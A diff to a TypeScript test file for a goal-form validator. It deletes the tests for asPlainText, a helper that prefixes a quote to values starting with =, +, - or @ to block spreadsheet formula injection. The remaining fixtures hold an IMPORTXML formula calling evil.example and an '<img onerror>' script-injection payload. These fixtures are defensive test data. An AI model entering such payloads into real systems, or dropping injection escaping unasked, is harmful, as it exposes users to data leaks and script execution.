@@ -1,4 +1,4 @@
-import { asPlainText, MAX_LENGTH, validateGoal, type FieldError, type GoalForm } from '../../src/core/goals';
+import { MAX_LENGTH, validateGoal, type FieldError, type GoalForm } from '../../src/core/goals';
 import type { Lang } from '../../src/core/i18n/lang';
 
 const TODAY = '2027-01-15';
@@ -116,7 +116,6 @@ describe('validateGoal: a valid form', () => {
     const goal = goalOf({ statement: '=IMPORTXML("https://evil.example", "//a")', owner: '<img src=x onerror=alert(1)>' });
     expect(goal.statement).toBe('=IMPORTXML("https://evil.example", "//a")');
     expect(goal.owner).toBe('<img src=x onerror=alert(1)>');
-    expect(asPlainText(goal.statement)).toBe('\'=IMPORTXML("https://evil.example", "//a")');
   });
 
   test.each([
@@ -290,20 +289,5 @@ describe('validateGoal: all errors at once', () => {
 
   test('an invalid today is a programming error', () => {
     expect(() => validateGoal(VALID, '15/01/2027', 'en')).toThrow(RangeError);
-  });
-});
-
-describe('asPlainText', () => {
-  test.each([
-    ['=IMPORTXML("https://x.example", "//a")', '\'=IMPORTXML("https://x.example", "//a")'],
-    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
-    ['-20 % churn', "'-20 % churn"],
-    ['@camille', "'@camille"],
-    ['Go from 1,200 to 1,800', 'Go from 1,200 to 1,800'],
-    ['1 + 1 = 2', '1 + 1 = 2'],
-    ["'already quoted", "'already quoted"],
-    ['', ''],
-  ])('%j is stored as %j', (text, stored) => {
-    expect(asPlainText(text)).toBe(stored);
   });
 });
